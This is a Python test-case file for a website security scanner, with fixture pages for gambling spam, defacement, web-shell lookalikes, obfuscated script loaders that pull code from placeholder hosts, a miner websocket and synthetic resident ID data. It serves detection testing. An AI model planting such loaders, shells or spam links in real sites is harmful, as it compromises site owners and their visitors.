"""A further set on compromise and personal data, judged once before anything was mended for it: what the program does
not get right stands in the table."""

from tests.accuracy.case import Case, fail, partial
from tests.accuracy.serve import App, Reply, Visit, page, pages

_BODY = "".join(
    f"<div class='kolom'><h3>Layanan {n}</h3><p>Syarat dan alur layanan nomor {n} di kantor kecamatan.</p><a href='/layanan/{n}'>Lihat</a></div>"
    for n in range(8)
)
_VILLAGE = page("Kecamatan Sukasari", f"<div class='isi'>{_BODY}</div>")


def _one(html: str) -> App:
    return pages({"/": html})


def _with(markup: str, head: str = "") -> App:
    return _one(page("Kecamatan Sukasari", _BODY + markup, head))


def _by_language(visit: Visit) -> Reply:
    """Shows its advertisement to visitors whose browser speaks Indonesian, as ours does."""
    if visit.file == "/" and visit.headers.get("accept-language", "").startswith("id"):
        return Reply(
            page(
                "RTP Slot Gacor Hari Ini - Link Slot Maxwin",
                "<p>Situs slot gacor, rtp live slot, mahjong ways, scatter hitam, deposit dana, bonus new member.</p><a href='https://masuk-sini.example/daftar'>Daftar</a>",
            )
        )
    return Reply(_VILLAGE)


_THAI = "<!doctype html><html lang='th'><head><meta charset='utf-8'><title>สล็อตเว็บตรง แตกง่าย สมัครฟรี เครดิตฟรี 100</title></head><body><h1>สล็อต เว็บตรง</h1><p>เว็บสล็อต แตกง่าย ฝากถอนไม่มีขั้นต่ำ บาคาร่า คาสิโนออนไลน์</p><a href='https://th-slot.example/register'>สมัคร</a></body></html>"
_CLICKS = "<a href='https://slot88-vip.example/' style='opacity:0;position:absolute'>.</a><a href='https://gacor77-vip.example/' style='opacity:0;position:absolute'>.</a>"
_ROLL = (
    "<ul class='blogroll'>"
    + "".join(
        f"<li><a href='https://{name}.example/'>{text}</a></li>"
        for name, text in (
            ("slot-online-1", "Slot Online"),
            ("agen-togel", "Agen Togel"),
            ("poker-qq", "Poker Online"),
            ("sbo-bola", "Judi Bola"),
            ("kasino-live", "Live Casino"),
        )
    )
    + "</ul>"
)
_ESSAY = "<div style='position:absolute;left:-8000px'><a href='https://essay-pro.example/'>buy essay online</a><a href='https://loan-fast.example/'>payday loans no credit check</a><a href='https://watch-rep.example/'>replica rolex</a></div>"

_TEXT_DEFACE = "<html><head><title>0wn3d</title></head><body bgcolor='#000000'><pre><font color='lime'>\n   [+] pwned by 7upCrew [+]\n   no files were deleted, just fix your bug admin\n   shoutz: xNot_RespondinGx, t1kus90t\n</font></pre></body></html>"
_STAMPED = "<html><head><title>.:: Kecamatan Sukasari ::.</title></head><body onload='alert(1)'><script>document.title='H4CKED'</script><center><h1>Stamped By Mr.Zero_Day</h1><h2>Indonesian Cyber Army</h2></center></body></html>"
_GECKO = "<html><head><title>Gecko [ shell ]</title></head><body><pre>uname -a : Linux vps 6.1.0-18-amd64 #1 SMP PREEMPT_DYNAMIC Debian x86_64 GNU/Linux</pre><form method='post'><input type='text' name='command' placeholder='whoami'><button>Run</button></form><form enctype='multipart/form-data' method='post'><input type='file' name='uploadfile'></form></body></html>"
_B374K = "<html><head><title>b374k 3.2.3</title></head><body><form method='post'><input type='password' name='pass' autofocus></form></body></html>"
_PING = page(
    "Uji Koneksi Jaringan",
    "<form method='post' action='/ping'><label>Alamat tujuan <input name='host'></label><button>Ping</button></form><p>Alat bantu untuk operator jaringan desa.</p>"
    + _BODY,
)
_BLOG = page(
    "Catatan Keamanan Siber",
    "<h2>Hacked by Anonymous: pelajaran dari 2012</h2><h2>Defaced website, lalu apa?</h2><p>Artikel ini membahas cara mencegah defacement dan memulihkan situs.</p>"
    + _BODY,
)
_CTF = page(
    "Lomba CTF Pelajar",
    "<h1>Hack the Box Day</h1><p>Peserta belajar keamanan siber: web, kripto, forensik. Hadiah menarik untuk tim terbaik.</p>"
    + _BODY,
)

_LOADER = "<script>(function(){var s=document.createElement('script');s.async=true;s.src=atob('aHR0cHM6Ly9qcy1zdGF0cy5leGFtcGxlL2xvYWQuanM=');document.head.appendChild(s)})();</script>"
_HEX = "<script>var _0x1=['\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x62\\x61\\x64\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2f'];var e=document.createElement('script');e.src=_0x1[0];document.head.appendChild(e)</script>"
_ESCAPED = (
    "<script>document.write(unescape('"
    + "".join(f"%{ord(char):02x}" for char in "<iframe src=https://drop.example/ width=1 height=1></iframe>")
    + "'))</script>"
)
_POOL = "<script>var m=new WebSocket('wss://pool.example:8443');m.onopen=function(){m.send(JSON.stringify({type:'auth',params:{site_key:'k'}}))};startMining('k')</script>"
_STORE = "<a id='app' href='#'>Aplikasi</a><script>if(/Android/i.test(navigator.userAgent)){document.getElementById('app').href='https://play.google.com/store/apps/details?id=id.go.x'}</script>"
_CHAT = "<script>(function(){var s=document.createElement('script');s.src='https://embed.tawk.to/abc/default';document.body.appendChild(s)})()</script>"
_DATA = "<script>var peta=JSON.parse(atob('eyJuYW1hIjoiU3VrYXNhcmkiLCJ0aXRpayI6WzEsMl0sInN1bWJlciI6Imh0dHBzOi8vcGV0YS5leGFtcGxlL2xheWFuYW4ifQ=='));</script>"
_FRAME = "<iframe src='https://kotak-x.example/a' class='zz'></iframe>"


def _nik(n: int) -> str:
    return f"3578{n % 20 + 1:02d}{n % 26 + 1 + (40 if n % 3 else 0):02d}{n % 12 + 1:02d}{(70 + n) % 100:02d}{n % 5 + 1:04d}"


_NAMES = (
    "Sulastri",
    "Bambang Wijaya",
    "Nur Hidayah",
    "Slamet Riyadi",
    "Endang Susilowati",
    "Joko Purnomo",
    "Sri Wahyuni",
    "Agung Prasetyo",
)
_LIST = "<ol>" + "".join(f"<li>{name} - {_nik(n)} - Dusun {n}</li>" for n, name in enumerate(_NAMES, 1)) + "</ol>"
_DIVS = "".join(
    f"<div class='baris'><div class='nama'>{name}</div><div class='nik'>NIK {_nik(n)[:6]} {_nik(n)[6:12]} {_nik(n)[12:]}</div></div>"
    for n, name in enumerate(_NAMES, 1)
)
_KK = (
    "<table><tr><td>No. KK</td><td>Kepala Keluarga</td></tr>"
    + "".join(f"<tr><td>357801{n + 10}0120000{n}</td><td>{name}</td></tr>" for n, name in enumerate(_NAMES, 1))
    + "</table>"
)
_CSV = "nama;nik;dusun\n" + "\n".join(f"{name};{_nik(n)};Dusun {n}" for n, name in enumerate(_NAMES, 1))
_COORDS = (
    "<table><tr><th>Titik</th><th>Lintang</th><th>Bujur</th></tr>"
    + "".join(
        f"<tr><td>Posko {n}</td><td>-7.25{n}4567890123456</td><td>112.75{n}8901234567890</td></tr>"
        for n in range(1, 10)
    )
    + "</table>"
)
_ISBN = (
    "<ul>"
    + "".join(f"<li>Buku {n}: ISBN 978-602-{n}234-56-7, nomor panggil 3578{n}</li>" for n in range(1, 15))
    + "</ul>"
)
_WHATSAPP = (
    "<table><tr><th>Nama</th><th>Jabatan</th><th>WhatsApp</th></tr>"
    + "".join(
        f"<tr><td>{name}</td><td>Kepala Dusun</td><td>0857{n:04d}{n * 71 % 10000:04d}</td></tr>"
        for n, name in enumerate((*_NAMES, *_NAMES), 1)
    )
    + "</table>"
)
_TRACK = (
    "<table><tr><th>Nomor Resi</th><th>Penerima</th></tr>"
    + "".join(
        f"<tr><td>{(n * 982451653 + 11) * 7919 % 10**16:016d}</td><td>{name}</td></tr>"
        for n, name in enumerate(_NAMES, 1)
    )
    + "</table><p>Masukkan NIK untuk melacak surat.</p>"
)


def _news(day: int, extra: str = "") -> str:
    posts = "".join(
        f"<article class='post-{day * 10 + n} hentry'><h2><a href='/{day}/{n}'>{('Gotong royong', 'Musrenbang', 'Vaksinasi', 'Pelatihan UMKM', 'Bersih sungai')[(day + n) % 5]} hari ke-{day}</a></h2><p>Liputan kegiatan {day}.{n} bersama warga dan perangkat desa setempat.</p></article>"
        for n in range(10)
    )
    return page(
        "Kecamatan Sukasari",
        f"<main class='site-main'>{posts}</main><aside class='widget'><span class='counter'>{day * 997}</span><time>{day} November</time></aside>{extra}",
    )


_PARKED = "<html><head><title>sukasari.example is for sale</title></head><body><h1>This domain may be for sale</h1><a href='https://parking.example/buy'>Buy now</a></body></html>"
_PARTNERS = (
    "<div class='l'>" + "".join(f"<a href='https://mitra-{n}.example/'>Mitra {n}</a>" for n in range(12)) + "</div>"
)

CASES = (
    Case("lima-bahasa", _by_language, {"gambling-content": fail()}),
    Case("lima-thai", pages({"/": page("Kecamatan", "<a href='/ht/'>Arsip</a>" + _BODY), "/ht/": _THAI}), {"gambling-content": fail()}),
    Case("lima-klik-tembus", _with(_CLICKS), {"gambling-content": fail()}),
    Case("lima-blogroll", _with(_ROLL), {"gambling-content": fail()}),
    Case("lima-esai", _with(_ESSAY), {"gambling-content": fail()}),
    Case("lima-wajah-teks", _one(_TEXT_DEFACE), {"defacement": fail("/")}),
    Case("lima-wajah-stempel", _one(_STAMPED), {"defacement": fail("/")}),
    Case("lima-cangkang-gecko", pages({"/": page("Kecamatan", "<a href='/foto/g.php'>x</a>" + _BODY), "/foto/g.php": _GECKO}), {"defacement": fail("/foto/g.php")}),
    Case("lima-cangkang-b374k", pages({"/": page("Kecamatan", "<a href='/media/b.php'>x</a>" + _BODY), "/media/b.php": _B374K}), {"defacement": fail("/media/b.php"), "admin-pages": fail("/media/b.php"), "login-barrier": fail("/media/b.php")}),
    Case("lima-ping", _one(_PING)),
    Case("lima-blog-keamanan", _one(_BLOG)),
    Case("lima-ctf", _one(_CTF)),
    Case("lima-pemuat", _with(_LOADER), {"malicious-scripts": fail("concealed")}),
    Case("lima-heksa", _with(_HEX), {"malicious-scripts": fail("concealed")}),
    Case("lima-lolos", _with(_ESCAPED), {"malicious-scripts": fail("concealed")}),
    Case("lima-kolam", _with(_POOL), {"malicious-scripts": fail("miner")}),
    Case("lima-bingkai-gaya", _with(_FRAME, "<style>.zz{position:absolute;left:-3000px}</style>"), {"malicious-scripts": fail("hidden_frame")}),
    Case("lima-azure-lepas", _with("", "<script src='https://widget-lama.azurewebsites.net/w.js'></script>"), {"malicious-scripts": fail("widget-lama.azurewebsites.net")}, dns={"widget-lama.azurewebsites.net": "NXDOMAIN"}),
    Case("lima-toko-aplikasi", _with(_STORE)),
    Case("lima-obrolan", _with(_CHAT)),
    Case("lima-data-base64", _with(_DATA)),
    Case("lima-dns-terisolasi", _with("", "<script src='https://cdn.partner.com/a.js'></script>"), unsure=frozenset(("malicious-scripts",)), dns={"cdn.partner.com": "NXDOMAIN", "partner.com": "NXDOMAIN", "com": "NXDOMAIN"}),
    Case("lima-ubah-parkir", _one(_PARKED), {"home-change": partial(), "dangling-dns": partial()}, before=_one(_news(3))),
    Case("lima-ubah-kosong", _one("<html><head><title>Kecamatan Sukasari</title></head><body><p>.</p></body></html>"), {"home-change": partial()}, before=_one(_news(3)), unsure=frozenset(("dangling-dns",))),
    Case("lima-ubah-tautan", _one(_news(4, _PARTNERS)), {"home-change": partial()}, before=_one(_news(3))),
    Case("lima-tetap-warta", _one(_news(28)), before=_one(_news(3))),
    Case("lima-tetap-sepi", _one(_news(5)), before=_one(_news(4, "<div class='spanduk'>Dirgahayu</div>"))),
    Case("lima-pribadi-daftar", _one(page("Penerima BLT", _LIST)), {"personal-data": fail("/")}),
    Case("lima-pribadi-baris", _one(page("Data Warga", _DIVS)), {"personal-data": fail("/")}),
    Case("lima-pribadi-kk", _one(page("Daftar Keluarga", _KK)), {"personal-data": fail("/")}),
    Case("lima-pribadi-csv", pages({"/": page("Kecamatan", "<a href='/ekspor'>Ekspor</a>" + _BODY), "/ekspor": Reply(_CSV, kind="text/csv")}), {"personal-data": fail("/ekspor")}),
    Case("lima-titik", _one(page("Peta Posko", _COORDS))),
    Case("lima-isbn", _one(page("Buku Baru", _ISBN))),
    Case("lima-perangkat", _one(page("Perangkat Desa", _WHATSAPP))),
    Case("lima-resi", _one(page("Lacak Surat", _TRACK))),
)  # fmt: skip
